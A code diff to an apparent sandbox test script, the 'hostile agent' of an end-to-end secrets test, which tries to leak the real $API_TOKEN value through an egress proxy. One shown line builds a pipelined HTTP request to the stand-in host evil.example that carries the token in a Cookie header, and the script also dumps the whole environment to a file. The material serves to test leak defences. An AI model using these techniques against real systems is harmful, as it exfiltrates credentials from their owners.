@@ -1,11 +1,11 @@
 """The hostile agent of test_secrets_e2e, run inside the sandbox (plain python3, no so).
 
 It tries every way it knows to get the real value behind ``$API_TOKEN`` through the
-egress proxy, each next to a control that must work, and prints one ``RESULT {json}``
-line: ``{name: outcome}``, where an outcome is a status code, ``"closed"`` (the proxy
-ended the connection), ``"tls-refused"``, or the text of what came back."""
+egress proxy, each next to a control that must work, and prints one ``RESULT {...}``
+line, a Python literal (the Docker image's python3-minimal has no json module):
+``{name: outcome}``, where an outcome is a status and the text that came back,
+``"closed"`` (the proxy ended the connection) or ``"tls-refused"``."""
 
-import json
 import os
 import socket
 import ssl
@@ -93,6 +93,6 @@ second = f"GET /pipelined HTTP/1.1\r\nHost: evil.example\r\nCookie: {TOKEN}\r\n\
 raw.sendall((first + second).encode())
 results["pipelined"] = outcome(read_all(raw))
 
-print("RESULT " + json.dumps(results), flush=True)
-with open("/workspace/agent-saw.json", "w") as f:
-    json.dump({"env": dict(os.environ), "results": results}, f)
+print("RESULT " + repr(results), flush=True)
+with open("/workspace/agent-saw.txt", "w") as f:
+    f.write(repr({"env": dict(os.environ), "results": results}))
